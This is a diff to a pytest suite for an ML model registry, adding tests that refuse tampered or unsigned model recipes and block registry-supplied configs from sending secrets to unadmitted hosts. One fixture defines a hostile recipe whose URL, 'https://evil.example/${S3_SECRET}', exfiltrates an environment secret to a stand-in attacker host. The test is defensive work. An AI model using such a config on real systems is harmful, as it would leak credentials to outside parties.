@@ -4,6 +4,7 @@ import json
 import shutil
 from pathlib import Path
 from types import SimpleNamespace
+from urllib.parse import urlsplit
 
 import pytest
 from growing_source import draw, prepare
@@ -217,7 +218,7 @@ def test_a_champion_that_changed_meanwhile_is_not_replaced_by_what_was_measured_
 
 
 def test_before_a_run_the_champion_is_asked_for_in_the_words_of_the_stage(home):
-    assert check_champion("captioner", TrackingConfig(), home / "runs") == "captioner version 1"
+    assert check_champion("captioner", TrackingConfig(), home / "runs").champion.version == 1
     with pytest.raises(UserError) as caught:
         check_champion("other", TrackingConfig(), home / "runs")
     with pytest.raises(UserError) as error:
@@ -272,3 +273,74 @@ def test_the_champion_is_fetched_whole_and_what_was_changed_in_its_store_is_refu
 def test_what_cannot_be_is_said_before_anything_is_made(home, config, message):
     with pytest.raises(UserError, match=message):
         launch("find_new_samples", json.dumps({"model_name": "captioner", **config}), str(home / "runs" / "x"), {})
+
+
+EVIL = {"committee": {"url": "https://evil.example/${S3_SECRET}", "model": "m", "api_key_env": "OPENAI_API_KEY"}}
+
+
+def hostile_champion(home: Path, monkeypatch) -> None:
+    """A champion whose recipe, as anybody who may write to the registry can put it there, sends secrets to a host."""
+    for name in ("MLFLOW_TRACKING_URI", "MLFLOW_RUN_ID"):
+        monkeypatch.delenv(name, raising=False)
+    monkeypatch.setenv("S3_SECRET", "the-secret")
+    monkeypatch.setenv("OPENAI_API_KEY", "the-key")
+    teachers = [EVIL["committee"]]
+    make_champion(home, caption_committee={"teachers": teachers})
+
+
+def test_recipe_from_the_registry_reaches_no_host_and_sends_no_variable_that_is_not_admitted(
+    tmp_path, monkeypatch, tell
+):
+    hostile_champion(tmp_path, monkeypatch)
+    run = tmp_path / "runs" / "x"
+    with pytest.raises(UserError) as refused:
+        launch("find_new_samples", json.dumps({"model_name": "captioner"}), str(run), {})
+    admit = "{hosts: {evil.example: [OPENAI_API_KEY, S3_SECRET]}}"
+    assert str(refused.value).endswith(f"if you trust it, set new_samples.admit: {admit}")
+    told = tell("run", "retrain", "--runs", tmp_path / "runs", "--run", "y")
+    assert told.code == 2
+    assert str(refused.value) in told.err
+    told = tell("run", "retrain", "--runs", tmp_path / "runs", "--run", "y", "--set", f"new_samples.admit={admit}")
+    assert "not admitted" not in told.err
+    for secret in (b"the-secret", b"the-key"):
+        assert not [path for path in tmp_path.rglob("*") if path.is_file() and secret in path.read_bytes()]
+
+
+def test_own_changes_need_no_admission(tmp_path, monkeypatch):
+    hostile_champion(tmp_path, monkeypatch)
+    draw(tmp_path / "images", range(100, 103))
+    own = {"caption_committee.teachers": [{"url": "https://ours.example/v1", "model": "m", "api_key_env": "OURS"}]}
+    assert look(tmp_path, "second", 10, **own).outcome == "skipped: 3 new samples, 10 needed"
+
+
+def test_recipe_that_was_exchanged_in_the_store_is_refused(home):
+    version = registry.champion(connection(home), "captioner")
+    stored = Path(urlsplit(version.tags["made_from"]).path) / "recipe.json"
+    before = stored.read_bytes()
+    stored.write_bytes(before.replace(b"captioner", b"exchanged"))
+    try:
+        with pytest.raises(UserError, match="what captioner version 1 was made from is not what was registered"):
+            look(home, "second", 10)
+    finally:
+        stored.write_bytes(before)
+
+
+def test_signed_recipe_needs_no_admission_and_one_of_another_key_is_refused(tmp_path, monkeypatch):
+    monkeypatch.setenv("RUBRICWORKS_LINEAGE_KEY", "ours")
+    hostile_champion(tmp_path, monkeypatch)
+    version = registry.champion(connection(tmp_path), "captioner")
+    assert read_lineage(connection(tmp_path), version).signed
+    assert look(tmp_path, "second", 10).outcome == "skipped: 0 new samples, 10 needed"
+    monkeypatch.setenv("RUBRICWORKS_LINEAGE_KEY", "theirs")
+    with pytest.raises(UserError, match="not signed with the key of RUBRICWORKS_LINEAGE_KEY"):
+        look(tmp_path, "third", 10)
+    monkeypatch.setenv("RUBRICWORKS_LINEAGE_KEY", "ours")
+    registry.tag(connection(tmp_path), version, {"made_from_signature": "0" * 64})
+    with pytest.raises(UserError, match="not signed with the key of RUBRICWORKS_LINEAGE_KEY"):
+        look(tmp_path, "fourth", 10)
+
+
+def test_unsigned_recipe_is_refused_where_a_key_is_set(home, monkeypatch):
+    monkeypatch.setenv("RUBRICWORKS_LINEAGE_KEY", "ours")
+    with pytest.raises(UserError, match="not signed with the key of RUBRICWORKS_LINEAGE_KEY"):
+        look(home, "second", 10)
